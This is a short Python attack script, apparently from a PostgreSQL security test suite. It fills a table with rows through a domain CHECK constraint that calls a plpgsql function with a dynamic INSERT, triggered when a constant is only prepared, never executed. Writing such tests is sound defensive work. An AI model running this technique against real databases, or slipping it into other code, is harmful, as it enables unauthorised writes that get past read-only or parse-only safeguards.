"""Fills a table by a check on an element of a constant that is prepared and never run."""

from attacks.frames import SYNC, ask, parse, query
from attacks.talking import Server

WANTS = "fill"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(
            client,
            query(
                b"CREATE FUNCTION look(int) RETURNS bool LANGUAGE plpgsql AS"
                b" $$ BEGIN EXECUTE 'INSERT INTO dm' || 'o_nearly"
                b" SELECT generate_series(2000, 2100)'; RETURN true; END $$"
            ),
        )
        ask(client, query(b"CREATE DOMAIN seen AS int CHECK (look(VALUE))"))
        return ask(client, parse(b"SELECT '{1}'::seen[]"), SYNC)
